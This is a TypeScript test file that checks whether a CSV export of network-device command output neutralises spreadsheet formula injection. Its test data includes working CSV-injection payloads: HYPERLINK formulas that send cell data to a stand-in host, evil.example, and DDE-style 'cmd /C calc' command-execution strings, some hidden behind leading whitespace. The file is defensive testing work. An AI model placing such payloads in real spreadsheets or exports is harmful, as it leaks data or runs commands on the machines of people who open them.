import { describe, expect, it } from 'vitest';
import { resultsCsv } from './service';

function detailWith(output: string, deviceName = 'sw1', error: string | null = null) {
  return {
    task: {} as never,
    devices: [
      {
        id: 'td1',
        deviceId: 'd1',
        deviceName,
        status: 'success' as const,
        error,
        attempts: 1,
        startedAt: null,
        finishedAt: null,
        durationMs: null,
        // the command's error carries the device error too: every column a device can write is checked
        outputs: [
          { command: 'display version', status: 'success' as const, output, error: error ?? undefined },
        ],
      },
    ],
  };
}

/** The cells of the CSV's one data row (every cell is quoted; quotes inside are doubled). */
function cells(csv: string): string[] {
  const rows: string[][] = [[]];
  const re = /"((?:[^"]|"")*)"(,|\r\n|$)/gy;
  let m: RegExpExecArray | null;
  while ((m = re.exec(csv)) && m[0] !== '') {
    rows.at(-1)!.push(m[1]!.replace(/""/g, '"'));
    if (m[2] === '\r\n') rows.push([]);
  }
  return rows[1]!;
}

describe('CSV export formula guard', () => {
  // OWASP CSV injection: a cell a spreadsheet reads as a formula starts with one of these,
  // possibly after leading whitespace.
  const attacks = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1+cmd|" /C calc"!A0',
    '-1+1',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '\t=HYPERLINK("http://evil.example","x")',
    '\r=HYPERLINK("http://evil.example","x")',
    ' =HYPERLINK("http://evil.example","x")',
    '  \t@SUM(A1)',
    '\n=1+1',
  ];
  for (const attack of attacks) {
    it(`neutralises ${JSON.stringify(attack).slice(0, 30)} in every column`, () => {
      for (const row of [
        cells(resultsCsv(detailWith(attack))),
        cells(resultsCsv(detailWith('ok', attack, attack))),
      ]) {
        for (const cell of row) {
          expect(cell, JSON.stringify(cell)).not.toMatch(/^[\s]*[=+\-@\t\r]/);
        }
      }
      // the text itself is kept (after the neutralising quote)
      expect(cells(resultsCsv(detailWith(attack)))[7]).toBe(`'${attack}`);
    });
  }
  it('leaves ordinary output alone', () => {
    expect(cells(resultsCsv(detailWith('Huawei VRP 8.180\r\nuptime 3 days')))[7]).toBe(
      'Huawei VRP 8.180\r\nuptime 3 days',
    );
    expect(cells(resultsCsv(detailWith('')))[7]).toBe('');
  });
});
